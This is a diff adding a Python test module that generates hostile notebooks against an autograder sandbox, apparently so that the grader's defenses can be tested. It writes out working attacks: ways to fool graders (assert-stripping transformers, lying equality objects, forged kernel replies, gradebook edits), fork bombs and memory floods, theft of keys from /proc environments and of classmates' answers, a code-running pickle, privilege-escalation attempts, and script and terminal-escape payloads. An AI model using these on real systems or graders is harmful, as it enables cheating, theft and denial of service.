@@ -1,0 +1,430 @@
+"""The hostile notebooks: each attack as the few lines that make it, written out as real notebooks beside this file.
+
+The lab `h_sums` gives 6 points for `add_all` and 4 for `largest`. In every notebook `largest` is honest and right,
+and `add_all` is wrong: an attack succeeds when it earns more than 4, or costs somebody else something.
+
+`python -m tests.hostile.attacks` writes the notebooks anew.
+"""
+
+from __future__ import annotations
+
+import copy
+import json
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+
+HERE = Path(__file__).parent
+LARGEST = "def largest(numbers):\n    return max(numbers)\n"
+WRONG = "def add_all(numbers):\n    return 0\n"
+#: Where a listener waits during the test, and what must never come out of a sandbox.
+PORT = 47913
+SECRET = "sk-hostile-0123456789"
+SLEEPER = "91357"
+
+
+@dataclass(frozen=True)
+class Attack:
+    """One attack."""
+
+    name: str
+    what: str
+    """What it does, in the words of the table."""
+    code: str = WRONG
+    """The answer cell `add_all`."""
+    edit: Callable[[dict], None] | None = None
+    """A change to the notebook's JSON."""
+    raw: Callable[[bytes], bytes] | None = None
+    """A change to the file's bytes."""
+    earns: float = 4.0
+    """What it may earn with us: what its honest cells are worth."""
+    plain: bool = True
+    """Is it harmless enough to be tried against plain nbgrader on the machine that runs the tests?"""
+
+
+def cell(notebook: dict, name: str) -> dict:
+    """Return the cell of that name."""
+    return next(one for one in notebook["cells"] if one["id"] == name)
+
+
+def meta(notebook: dict, name: str) -> dict:
+    """Return the nbgrader metadata of a cell."""
+    return cell(notebook, name)["metadata"]["nbgrader"]
+
+
+def tag_checks(notebook: dict) -> None:
+    """Tag every check so that nbclient skips it."""
+    for one in notebook["cells"]:
+        if one["metadata"].get("nbgrader", {}).get("grade"):
+            one["metadata"]["tags"] = ["skip-execution"]
+
+
+def copy_check(notebook: dict) -> None:
+    """Put a second, empty check with the same name behind the first."""
+    twin = copy.deepcopy(cell(notebook, "add_all_held_out"))
+    twin.update(id="twin", source="pass")
+    notebook["cells"].append(twin)
+
+
+def nested(notebook: dict) -> None:
+    """Hide a very deep list in the metadata of a cell."""
+    deep: list = []
+    for _ in range(900):
+        deep = [deep]
+    notebook["cells"][0]["metadata"]["deep"] = deep
+
+
+def own_check_cell(notebook: dict) -> None:
+    """Add a cell of one's own that gives itself a thousand points."""
+    twin = copy.deepcopy(cell(notebook, "add_all_held_out"))
+    twin.update(id="bonus", source="1000")
+    twin["metadata"]["nbgrader"].update(grade_id="bonus", points=1000)
+    notebook["cells"].append(twin)
+
+
+SCRIPT = "<script>document.title='pwned'</script><img src=x onerror=\"document.title='pwned'\">"
+
+
+def script_everywhere(notebook: dict) -> None:
+    """Put script into Markdown, attachments, cell ids and metadata."""
+    why = cell(notebook, "why")
+    why["source"] = f"My answer {SCRIPT} <a href=\"javascript:document.title='pwned'\">read on</a> <iframe srcdoc=\"{SCRIPT}\"></iframe>"
+    why["attachments"] = {"x.svg": {"image/svg+xml": f"<svg onload=\"document.title='pwned'\">{SCRIPT}</svg>"}}
+    notebook["cells"].append({"cell_type": "markdown", "id": "x\"><script>document.title='pwned'</script>", "metadata": {}, "source": SCRIPT})
+    notebook["metadata"]["title"] = SCRIPT
+
+
+ATTACKS = [
+    # Marks
+    Attack("skip_execution_tags", "check cells tagged `skip-execution` (metadata only)", edit=tag_checks),
+    Attack("input_transformer", "an input transformer that empties later check cells",
+           WRONG + "get_ipython().input_transformers_cleanup.append(\n    lambda lines: [] if any('assert' in line for line in lines) else lines)\n"),
+    Attack("ast_transformer", "an AST transformer that removes every assert", WRONG + """
+import ast
+class NoAsserts(ast.NodeTransformer):
+    def visit_Assert(self, node):
+        return ast.Pass()
+get_ipython().ast_transformers.append(NoAsserts())
+"""),
+    Attack("always_equal", "an object whose `__eq__` is always true", """
+class Anything:
+    def __eq__(self, other):
+        return True
+    __hash__ = object.__hash__
+def add_all(numbers):
+    return Anything()
+"""),
+    Attack("lying_int", "an int subclass that lies about equality, type and text", """
+class Lie(int):
+    def __eq__(self, other):
+        return True
+    def __int__(self):
+        import inspect
+        return 3
+    __index__ = __int__
+    __class__ = int
+    __hash__ = int.__hash__
+def add_all(numbers):
+    return Lie(0)
+"""),
+    Attack("swallowed_errors", "a custom exception handler that swallows AssertionError",
+           WRONG + "get_ipython().set_custom_exc((AssertionError,), lambda *words, **more: None)\n"),
+    Attack("silent_traceback", "`showtraceback` and `run_cell` of the shell replaced", WRONG + """
+shell = get_ipython()
+shell.showtraceback = lambda *words, **more: None
+shell.kernel.do_execute_real = shell.kernel.do_execute
+"""),
+    Attack("patched_libraries", "`unittest`, `math`, `pandas.testing`, `builtins` and the clock replaced", WRONG + """
+import builtins, math, time, unittest
+import pandas.testing
+unittest.TestCase.assertEqual = lambda *words: None
+pandas.testing.assert_frame_equal = lambda *words, **more: None
+math.isclose = lambda *words, **more: True
+builtins.abs = lambda x: 0
+time.time = time.monotonic = lambda: 0.0
+"""),
+    Attack("reads_the_check", "hidden test text parsed at run time, the expected literal returned", """
+import re
+def add_all(numbers):
+    text = In[-1]
+    found = re.search(re.escape(f"add_all({numbers})") + r" == (-?\\d+)", text)
+    return int(found[1]) if found else 0
+"""),
+    Attack("displayhook_number", "`sys.displayhook(6.0)` called inside the function: partial credit of one's own choice", """
+import sys
+def add_all(numbers):
+    sys.displayhook(6.0)
+    return 0
+"""),
+    Attack("displayhook_text", "text as partial credit", "import sys\ndef add_all(numbers):\n    sys.displayhook('all of them')\n    return 0\n"),
+    Attack("displayhook_too_much", "partial credit out of range", "import sys\ndef add_all(numbers):\n    sys.displayhook(1e9)\n    return 0\n"),
+    Attack("points_raised", "`points` of a check raised, on a copy with another name",
+           edit=own_check_cell),
+    Attack("check_copied", "a graded cell copied, the copy emptied", edit=copy_check),
+    Attack("check_deleted", "a graded cell deleted", edit=lambda n: n["cells"].remove(cell(n, "add_all_held_out"))),
+    Attack("check_to_markdown", "a graded cell turned to Markdown",
+           edit=lambda n: cell(n, "add_all_held_out").update(cell_type="markdown")),
+    Attack("check_renamed", "`grade_id` of a check changed", edit=lambda n: meta(n, "add_all_held_out").update(grade_id="other")),
+    Attack("check_as_solution", "`solution` of a check set, its source emptied",
+           edit=lambda n: (meta(n, "add_all_held_out").update(solution=True, locked=False), cell(n, "add_all_held_out").update(source="pass"))),
+    Attack("names_swapped", "the names of two checks exchanged, so that the easy one counts twice",
+           edit=lambda n: (meta(n, "add_all_held_out").update(grade_id="largest_held_out"),
+                           meta(n, "largest_held_out").update(grade_id="add_all_held_out"))),
+    Attack("schema_odd", "metadata with wrong types", edit=lambda n: meta(n, "add_all_held_out").update(points="many", schema_version=[3])),
+    Attack("fake_verdict", "prints a forged verdict", """
+def add_all(numbers):
+    print("✓ add_all_held_out: 6 of 6 points")
+    return 0
+"""),
+    Attack("patched_bridge", "the bridge in the kernel replaced by one that answers what it likes", WRONG + """
+import json
+import campkit.checking.bridge as bridge
+bridge.serve_call = lambda request, namespace=None: json.dumps({"value": True, "points": 6, "status": "passed"})
+largest_result = None
+""", earns=0.0),
+    Attack("forged_replies", "forged kernel messages with the kernel's own key", WRONG + """
+import json, threading, time
+kernel = get_ipython().kernel
+def forge():
+    for _ in range(40):
+        try:
+            kernel.session.send(kernel.iopub_socket, "execute_result", {"data": {"text/plain": "6.0"}, "metadata": {}, "execution_count": 1},
+                                parent=kernel.get_parent())
+            kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=kernel.get_parent())
+        except Exception:
+            pass
+        time.sleep(0.05)
+threading.Thread(target=forge, daemon=True).start()
+"""),
+    Attack("strange_answers", "answers that are no data: self-containing, endless, half characters, a million digits", """
+def add_all(numbers):
+    add_all.calls = getattr(add_all, "calls", 0) + 1
+    loop = []
+    loop.append(loop)
+    return [loop, "\\ud800", 10 ** 100000, iter(int, 1), object()][add_all.calls % 5]
+"""),
+    Attack("huge_answer", "an answer of 300 MB", "def add_all(numbers):\n    return 'x' * 300_000_000\n"),
+    Attack("pickle_answer", "an answer that would run code when unpickled", """
+import os
+class Evil:
+    def __reduce__(self):
+        return (os.system, ("touch /tmp/camp_pwned",))
+def add_all(numbers):
+    return Evil()
+"""),
+    # Availability
+    Attack("os_exit", "`os._exit(0)` in the function", "import os\ndef add_all(numbers):\n    os._exit(0)\n"),
+    Attack("os_exit_at_once", "`os._exit(0)` as the cell runs", "import os\nos._exit(0)\n"),
+    Attack("segfault", "a crash of the interpreter", "import ctypes\ndef add_all(numbers):\n    ctypes.string_at(0)\n"),
+    Attack("endless_loop", "an endless loop", "def add_all(numbers):\n    while True:\n        pass\n"),
+    Attack("swallows_interrupts", "a loop that swallows interrupts", """
+def add_all(numbers):
+    import signal
+    signal.signal(signal.SIGINT, signal.SIG_IGN)
+    while True:
+        try:
+            while True:
+                pass
+        except BaseException:
+            pass
+"""),
+    Attack("stops_itself", "SIGSTOP to its own kernel", "import os, signal\ndef add_all(numbers):\n    os.kill(os.getpid(), signal.SIGSTOP)\n    return 0\n"),
+    Attack("system_exit", "`exit()` and `sys.exit`", "import sys\ndef add_all(numbers):\n    sys.exit(0)\n"),
+    Attack("kernel_shutdown", "asks its own kernel to shut down", """
+def add_all(numbers):
+    get_ipython().kernel.do_shutdown(False)
+    get_ipython().ask_exit()
+    return 0
+"""),
+    Attack("no_imports", "`builtins.__import__` removed, modules emptied",
+           WRONG + "import builtins, sys\nbuiltins.__import__ = None\nbuiltins.open = None\n"),
+    Attack("kill_parent", "`os.kill(os.getppid(), 9)`", "import os\ndef add_all(numbers):\n    os.kill(os.getppid(), 9)\n    return 0\n"),
+    Attack("kill_everything", "`os.kill(-1, 9)`", """
+import os
+def add_all(numbers):
+    if os.getuid() == 65534:  # only ever in the sandbox
+        os.kill(-1, 9)
+    return 0
+""", plain=False),
+    Attack("background_process", "a detached background process", WRONG + f"""
+import subprocess
+subprocess.Popen(["sh", "-c", "setsid sleep {SLEEPER} & setsid sleep {SLEEPER} &"], start_new_session=True)
+"""),
+    Attack("many_processes", "500 processes", WRONG + """
+import subprocess
+started = []
+try:
+    for number in range(500):
+        started.append(subprocess.Popen(["sleep", "20"]))
+except OSError:
+    pass
+print("STARTED", len(started))
+for one in started:
+    one.kill()
+"""),
+    Attack("fork_bomb", "a fork bomb", "import os\ndef add_all(numbers):\n    if os.getuid() == 65534:\n        while True:\n            os.fork()\n    return 0\n", plain=False),
+    Attack("memory_hog", "3 GB of memory", "def add_all(numbers):\n    return len(bytes(3_000_000_000).replace(b'x', b'y')) * 0\n"),
+    Attack("many_hogs", "memory in many processes at once", WRONG + """
+import os
+if os.getuid() == 65534:
+    for _ in range(12):
+        if os.fork() == 0:
+            import time
+            hog = bytearray(200_000_000)
+            for at in range(0, len(hog), 4096):
+                hog[at] = 1
+            time.sleep(60)
+""", plain=False),
+    Attack("long_line", "20 MB in one line of output", WRONG + "print('x' * 20_000_000)\n"),
+    Attack("many_lines", "200,000 lines of output", WRONG + "for number in range(200_000):\n    print(number)\n"),
+    Attack("output_flood", "output without end", WRONG + "import sys\nfor number in range(100_000):\n    print('x' * 10_000)\n", plain=False),
+    Attack("big_file", "a file of 10 GB", WRONG + """
+try:
+    with open("big", "wb") as out:
+        out.truncate(10_000_000_000)
+    print("MADE")
+except OSError as error:
+    print("REFUSED", error)
+"""),
+    Attack("many_files", "20,000 files", WRONG + """
+try:
+    for number in range(20_000):
+        open(f"file{number}", "w").close()
+    print("MADE")
+except OSError as error:
+    print("REFUSED", error)
+"""),
+    Attack("socket_folder", "files in the folder of the kernel's own sockets", WRONG + """
+import os
+for place in ("/run/k", "."):
+    try:
+        for number in range(3000):
+            with open(f"{place}/file{number}", "w") as out:
+                out.write("x" * 10_000)
+    except OSError as error:
+        print(error)
+import time
+time.sleep(1)
+""", plain=False),
+    # Secrets and other people's work
+    Attack("writes_gradebook", "writes `gradebook.db`", WRONG + """
+import glob, os, sqlite3
+for up in ("..", "../..", "../../..", "../../../.."):
+    for path in glob.glob(f"{up}/gradebook.db") + glob.glob(f"{up}/*/gradebook.db"):
+        base = sqlite3.connect(path)
+        base.execute("update grade set manual_score = 6.0, needs_manual_grade = 0")
+        base.commit()
+        print("WROTE", path)
+"""),
+    Attack("reads_source", "reads `source/` and runs the worked answer it finds", WRONG + """
+import glob, json
+for up in ("..", "../..", "../../..", "../../../.."):
+    for path in glob.glob(f"{up}/source/*/*.ipynb") + glob.glob(f"{up}/*/source/*/*.ipynb"):
+        for one in json.load(open(path))["cells"]:
+            if one["metadata"].get("nbgrader", {}).get("grade_id") == "add_all":
+                exec("".join(one["source"]))
+                print("STOLE", path)
+"""),
+    Attack("reads_classmates", "reads classmates' submissions and runs their answer", WRONG + """
+import glob, json
+for up in ("..", "../..", "../../..", "../../../.."):
+    for path in glob.glob(f"{up}/submitted/honest/*/*.ipynb") + glob.glob(f"{up}/*/submitted/honest/*/*.ipynb"):
+        for one in json.load(open(path))["cells"]:
+            if one["metadata"].get("nbgrader", {}).get("grade_id") == "add_all":
+                exec("".join(one["source"]))
+                print("STOLE", path)
+"""),
+    Attack("network", "a connection to a server on this machine", WRONG + f"""
+import socket
+try:
+    socket.create_connection(("127.0.0.1", {PORT}), timeout=2).sendall(b"stolen")
+    print("REACHED")
+except OSError as error:
+    print("BLOCKED", error)
+"""),
+    Attack("api_key", "reads keys from the environment, its own and its parents'", WRONG + """
+import glob, os
+texts = [str(dict(os.environ))]
+for path in glob.glob("/proc/*/environ"):
+    try:
+        texts.append(open(path).read())
+    except OSError:
+        pass
+print([text[text.find("sk-hostile"):][:21] for text in texts if "sk-hostile" in text])
+"""),
+    Attack("looks_around", "looks for the grader: processes, other submissions, /root, the checks", WRONG + """
+import glob, os
+seen = []
+for path in glob.glob("/proc/[0-9]*/cmdline"):
+    try:
+        seen.append(open(path).read())
+    except OSError:
+        pass
+print("GRADER" if any("pytest" in text or "cohort_tools" in text or "nbgrader" in text for text in seen) else "ALONE")
+found = [path for up in ("/work", "/camp", "/in", "/camp/..", "/proc/1/root", "/proc/self/root", "/root", "/home")
+         for depth in ("", "*/", "*/*/", "*/*/*/") for path in glob.glob(f"{up}/{depth}h_sums/checks.py") + glob.glob(f"{up}/{depth}secret_seed")]
+print("CHECKS" if found else "NO CHECKS")
+""", plain=False),
+    Attack("raises_its_limits", "raises its own limits, becomes root, mounts", WRONG + """
+import ctypes, os, resource
+for attempt in (lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (resource.RLIM_INFINITY,) * 2), lambda: os.setuid(0), lambda: os.chroot("/tmp"),
+                lambda: os.open("/usr/x", os.O_CREAT | os.O_WRONLY), lambda: os.open("/camp/campkit/x.py", os.O_CREAT | os.O_WRONLY)):
+    try:
+        attempt()
+        print("DONE")
+    except (OSError, ValueError) as error:
+        print("REFUSED", error)
+libc = ctypes.CDLL(None)
+print("MOUNTED" if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0 else "REFUSED mount")
+""", plain=False),
+    # People's browsers and terminals
+    Attack("script_in_output", "HTML, SVG and JavaScript in output", WRONG + f"""
+from IPython.display import HTML, SVG, Javascript, Markdown, display
+display(HTML({SCRIPT!r}))
+display(Javascript("document.title='pwned'"))
+display(Markdown({SCRIPT!r}))
+display({{"image/svg+xml": "<svg onload=\\"document.title='pwned'\\"/>", "text/plain": "svg"}}, raw=True)
+display({{"image/png": {SCRIPT!r}, "text/plain": "png"}}, raw=True)
+"""),
+    Attack("script_everywhere", "script in Markdown, attachments, cell ids, metadata", edit=script_everywhere),
+    Attack("terminal_codes", "control codes for the instructor's terminal in an error", """
+def add_all(numbers):
+    raise ValueError("\\x1b]0;pwned\\x07\\x1b[2J\\x9b31m passed")
+"""),
+    # Not a notebook
+    Attack("other_kernel", "another kernel", edit=lambda n: n["metadata"].update(kernelspec={"name": "bash", "display_name": "Bash", "language": "bash"})),
+    Attack("other_format", "another notebook format", edit=lambda n: n.update(nbformat=3), earns=0.0),
+    Attack("deep_metadata", "metadata nested 900 levels deep", edit=nested),
+    Attack("broken_json", "broken JSON", raw=lambda data: data[:-200], earns=0.0),
+    Attack("deep_json", "100,000 levels of nesting", raw=lambda data: b"[" * 100_000, earns=0.0),
+]
+
+
+def release() -> dict:
+    """Return the released notebook of the lab as plain JSON."""
+    from graders.build import notebook_bytes, release_notebook
+    from graders.labs import load_lab
+
+    return json.loads(notebook_bytes(release_notebook(load_lab(HERE / "lab" / "h_sums"))))
+
+
+def make(attack: Attack, base: dict | None = None) -> bytes:
+    """Return the bytes of an attack's notebook."""
+    notebook = copy.deepcopy(base or release())
+    cell(notebook, "add_all")["source"] = attack.code.lstrip("\n")
+    cell(notebook, "largest")["source"] = LARGEST
+    if attack.edit:
+        attack.edit(notebook)
+    data = (json.dumps(notebook, ensure_ascii=False, indent=1, sort_keys=True) + "\n").encode("utf-8", "surrogatepass")
+    return attack.raw(data) if attack.raw else data
+
+
+def write() -> None:
+    """Write every notebook beside this file."""
+    base = release()
+    for attack in ATTACKS:
+        (HERE / f"{attack.name}.ipynb").write_bytes(make(attack, base))
+
+
+if __name__ == "__main__":
+    write()
